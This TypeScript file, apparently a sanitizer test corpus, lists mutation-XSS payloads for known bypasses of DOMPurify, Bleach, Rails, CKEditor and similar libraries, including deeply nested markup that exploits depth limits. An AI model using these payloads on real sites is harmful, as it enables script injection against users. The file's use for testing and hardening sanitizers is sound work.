import { category } from './payload';
import {
  BENTKOWSKI,
  BLEACH,
  CKEDITOR,
  DOMPURIFY_2019,
  DOMPURIFY_DEPTH,
  DOMPURIFY_NESTING,
  GANSS,
  MXSS,
  own,
  RAILS,
  SANITIZE_RUBY,
} from './sources';

const deep = (open: string, times: number, inner: string) => open.repeat(times) + inner;

/** Markup that is one thing when it is parsed and another when what came of that is written out and parsed again. */
export const MUTATION = category('mutation', [
  [
    MXSS,
    {
      'backtick-attribute': '<img alt="``onerror={{CALL}}" src="x:">',
      'entity-in-style': `<p style="font-family:'x&#x3b;background:url({{URL}})&#x3b;y'">a</p>`,
      'css-escape-quote': `<p style="font-family:'ar\\22 \\3bx\\3a expression({{CALL}})\\3b'">a</p>`,
      'unknown-with-xmlns': '<article xmlns="x:img src=x: onerror={{CALL}} ">a</article>',
      'xmlns-quote': '<p xmlns="&quot;><iframe onload={{CALL}}>">a</p>',
      'listing-newline': '<listing>\n&lt;img src=x: onerror={{CALL}}&gt;</listing>',
      'listing-entities': '<listing>&lt;img src=x: onerror={{CALL}}&gt;</listing>',
      'xmp-end': '<xmp>&lt;/xmp&gt;<img title="</xmp><img src=x: onerror={{CALL}}>"></xmp>',
      'textarea-newline': '<textarea>\n\n&lt;/textarea&gt;&lt;img src=x: onerror={{CALL}}&gt;</textarea>',
      'pre-newline': '<pre>\n\n<img title="</pre><img src=x: onerror={{CALL}}>"></pre>',
      'style-breaks': '<style><style/><img src=x: onerror={{CALL}}>',
    },
  ],
  [
    DOMPURIFY_2019,
    {
      'svg-p-style': '<svg></p><style><a id="</style><img src=x: onerror={{CALL}}>">',
      'svg-p-title': '<svg></p><title><a id="</title><img src=x: onerror={{CALL}}>">',
      'math-br-style': '<math></br><style><a id="</style><img src=x: onerror={{CALL}}>">',
      'svg-p-inside': '<svg><p><style><a id="</style><img src=x: onerror={{CALL}}>"></p></svg>',
    },
  ],
  [
    BENTKOWSKI,
    {
      'form-nested':
        '<form><math><mtext></form><form><mglyph><style></math><img src=x: onerror={{CALL}}></style></mglyph></form>',
      'form-malignmark':
        '<form><math><mtext></form><form><malignmark><style></math><img src=x: onerror={{CALL}}></style></malignmark></form>',
      'table-mglyph':
        '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x: onerror={{CALL}}&gt;">',
      'table-mglyph-comment':
        '<math><mtext><table><mglyph><style><math>CLICKME</math><img src=x: onerror={{CALL}}></style></mglyph></table></mtext></math>',
      'svg-in-mglyph':
        '<math><mtext><table><mglyph><svg><mtext><textarea><path id="</textarea><img src=x: onerror={{CALL}}>"></table></math>',
      'select-mglyph':
        '<math><mtext><h1><a><h6></a></h6><mglyph><svg><mtext><style><a title="</style><img src=x: onerror={{CALL}}>"></style></h1></math>',
      'div-table-a':
        '<div><table><a><table><a><math><mtext><mglyph><style></math><img src=x: onerror={{CALL}}></style></table>',
    },
  ],
  [
    DOMPURIFY_NESTING,
    {
      'deep-divs': deep('<div>', 520, '<img src=x: onerror={{CALL}}>'),
      'deep-svg-style': `${deep('<div>', 506, '<svg><style><!--</style><img title="--&gt;&lt;img src=x: onerror={{CALL}}&gt;">')}`,
      'deep-form-headings': deep(
        '<form><h1></form><table><form></form></form></table></form></table></h1></form>',
        20,
        '<math><mi><style><img src=x: onerror={{CALL}}></style></mi></math>',
      ),
      'deep-forms-svg': deep(
        '<form><div></form>',
        100,
        '<form><div></form><svg><style><img src=x: onerror={{CALL}}></style></svg>',
      ),
      'deep-table-caption': deep(
        '<table><caption>',
        60,
        '<svg><title><style><a id="</style><img src=x: onerror={{CALL}}>">',
      ),
      'deep-annotations': deep(
        '<math><annotation-xml encoding="text/html">',
        60,
        '<style><img src=x: onerror={{CALL}}></style>',
      ),
      'caption-svg-p':
        '<table><caption><svg><title><table><caption></caption></table></title><style><a id="</style><img src=x: onerror={{CALL}}>"></a></style></svg></caption></table>',
    },
  ],
  [
    own(DOMPURIFY_DEPTH),
    {
      'deep-spans': deep('<span>', 300, '<img src=x: onerror={{CALL}}>'),
      'deep-fonts': deep('<font><b>', 150, '<p><img src=x: onerror={{CALL}}></p>'),
      'deep-templates': deep('<template>', 40, '<img src=x: onerror={{CALL}}>'),
      'misnested-formatting': `${deep('<b><i><u><a href=#>', 12, '<p>')}<img src=x: onerror={{CALL}}></b></i></u></a>`,
      'deep-selects': deep('<select><optgroup>', 30, '<option><img src=x: onerror={{CALL}}>'),
    },
  ],
  [
    BLEACH,
    {
      'noscript-style': '<noscript><style></noscript><img src=x: onerror={{CALL}}></style>',
      'svg-style-attribute': '<svg><style><img title="</style><img src=x: onerror={{CALL}}>"></style></svg>',
      'math-p-style': '<math></p><style><!--</style><img src=x: onerror={{CALL}}>--></style></math>',
      'noembed-comment': '<noembed><!--</noembed><img src=x: onerror={{CALL}}>--></noembed>',
      'p-script-comment': '<svg></p><script><!--</script><img src=x: onerror={{CALL}}>--></script>',
    },
  ],
  [
    SANITIZE_RUBY,
    {
      'math-iframe': '<math><iframe><img title="</iframe><img src=x: onerror={{CALL}}>"></iframe></math>',
      'svg-noembed': '<svg><noembed><img title="</noembed><img src=x: onerror={{CALL}}>"></noembed></svg>',
      'svg-noframes':
        '<svg><noframes><img title="</noframes><img src=x: onerror={{CALL}}>"></noframes></svg>',
      'svg-plaintext': '<svg><plaintext><img src=x: onerror={{CALL}}></plaintext></svg>',
      'svg-xmp': '<svg><xmp><img title="</xmp><img src=x: onerror={{CALL}}>"></xmp></svg>',
      'style-at-rule-end': '<style>@media x{</style><img src=x: onerror={{CALL}}>}</style>',
    },
  ],
  [
    RAILS,
    {
      'select-style': '<select><style><script>{{CALL}}</script></style></select>',
      'math-style-in-select': '<select><math><style><img src=x: onerror={{CALL}}></style></math></select>',
      'svg-select': '<svg><style><select><script>{{CALL}}</script></select></style></svg>',
      'namespaced-attribute':
        '<svg><a xlink:href="javascript:{{CALL}}" xml:lang=en><text y=9>a</text></a></svg>',
    },
  ],
  [
    GANSS,
    {
      'noembed-in-math':
        '<math><mtext><noembed><img title="</noembed><img src=x: onerror={{CALL}}>"></mtext></math>',
      'comment-in-foreign': '<svg><![CDATA[><img src=x: onerror={{CALL}}>]]></svg>',
      'textarea-in-svg':
        '<svg><textarea><img title="</textarea><img src=x: onerror={{CALL}}>"></textarea></svg>',
    },
  ],
  [
    own(CKEDITOR),
    {
      'comment-bang': '<!--!> <img src=x: onerror={{CALL}}> --!>',
      'cdata-html': '<![CDATA[ <img src=x: onerror={{CALL}}> ]]>',
      'cdata-ends-early': '<p>a<![CDATA[>]]><img src=x: onerror={{CALL}}></p>',
      'cdata-in-math': '<math><![CDATA[</math><img src=x: onerror={{CALL}}>]]></math>',
      instruction: '<?xml version="1.0"?><?php echo "<img src=x: onerror={{CALL}}>"?>',
    },
  ],
]);
